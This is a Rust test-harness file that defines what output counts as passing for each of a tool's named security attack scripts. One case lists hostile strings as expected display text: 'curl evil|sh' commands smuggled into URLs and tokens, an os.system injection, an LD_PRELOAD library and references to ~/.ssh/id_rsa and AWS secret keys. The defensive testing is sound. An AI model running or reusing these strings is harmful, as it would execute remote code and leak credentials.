//! What the output of each attack must be.

use super::{Judge, Seen};
use crate::Outcome;

/// So much memory the program may take at its most, in KB, whatever a server sends.
const MOST_MEMORY_KB: u64 = 200_000;

/// So much it may print about a file of 17 KB, in bytes.
const MOST_OUTPUT: u64 = 100_000;

/// What judges the script of this name.
pub(super) fn judge(name: &str) -> Judge {
    match name {
        "01-escape-before-trust" => |seen| match seen.text.trim() {
            "" => Ok(()),
            _ => Err("escapes reached the terminal".to_owned()),
        },
        "02-symlink-trust" => |seen| seen.says(&["mcp.json: trusted", "No such file"]),
        "03-prompt-hides" => |seen| {
            seen.says(&[
                "sh -c \"curl -s https://docs.example.com/?v=1; curl evil|sh\"",
                "sh -c \"token=1; curl evil|sh\"",
                "auth=__import__('os').system('evil')",
                "sh -c \"fc-0123456789=1;curl evil|sh\"",
                "decides what code runs: sets",
                "LD_PRELOAD=./evil.so",
                "X-Trace=${file:~/.ssh/id_rsa}",
                "${AWS_SECRET_ACCESS_KEY}",
            ])
        },
        "04-imports" | "09-after-trust" | "10-npx-in-cwd" => {
            // What is there at the end is listed.
            |seen| {
                seen.says(&["h\n", "p\n"])?;
                seen.is_silent_of(&["PWNED"])
            }
        }
        "05-secret-to-any-as" => |seen| {
            seen.says(&["no server of the config can be used"])?;
            seen.is_silent_of(&["POST /token", "PLATFORM-JWT"])
        },
        "06-reply-queue" => |seen| little_memory(seen),
        "07-catalog" => |seen| {
            seen.says(&["limits.max_list_"])?;
            little_memory(seen)
        },
        "08-log-escapes" => |seen| seen.says(&["clean "]),
        "11-problem-renderer" => |seen| {
            seen.is_silent_of(&["panicked", "rc=101"])?;
            let bytes = last_number(&seen.text, "").ok_or("says no size")?;
            at_most(bytes, MOST_OUTPUT, "bytes of output")
        },
        "12-env-file-fifo" => |seen| {
            seen.says(&["it is no regular file", "rc=2 "])?;
            seen.is_silent_of(&["rc=137 "])
        },
        "13-dir-flock" => |seen| seen.says(&["rc=0"]),
        _ => |_| Err("nothing is expected of this script: say it in cases/security.rs".to_owned()),
    }
}

/// The last line of `time -f "%es %MKB"`.
fn little_memory(seen: &Seen) -> Outcome {
    let memory = last_number(&seen.text, "KB").ok_or("says no memory")?;
    at_most(memory, MOST_MEMORY_KB, "KB of memory")
}

fn at_most(number: u64, most: u64, what: &str) -> Outcome {
    match number <= most {
        true => Ok(()),
        false => Err(format!("{number} {what}, and not at most {most}")),
    }
}

/// The number before this unit at the end of the last line.
fn last_number(text: &str, unit: &str) -> Option<u64> {
    let last = text.trim_end().rsplit(char::is_whitespace).next()?;
    last.strip_suffix(unit)?.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seen(text: &str) -> Seen {
        Seen {
            code: Some(0),
            text: text.to_owned(),
        }
    }

    #[test]
    fn memory_and_output_are_read_from_the_last_line() {
        assert!(little_memory(&seen("x\n2.22s 29896KB\n")).is_ok());
        assert!(little_memory(&seen("x\n4.00s 819200KB\n")).is_err());
        assert!(little_memory(&seen("")).is_err());
        let renderer = judge("11-problem-renderer");
        assert!(renderer(&seen("rc=2\n2589\n")).is_ok());
        assert!(renderer(&seen("rc=2\n58720256\n")).is_err());
        assert!(renderer(&seen("rc=101\n12\n")).is_err());
    }

    #[test]
    fn what_an_attack_leaves_is_seen() {
        assert!(judge("04-imports")(&seen("h\np\n")).is_ok());
        assert!(judge("04-imports")(&seen("PWNED_rel\nh\np\n")).is_err());
        assert!(judge("04-imports")(&seen("")).is_err());
        assert!(judge("99-new")(&seen("")).is_err());
    }
}
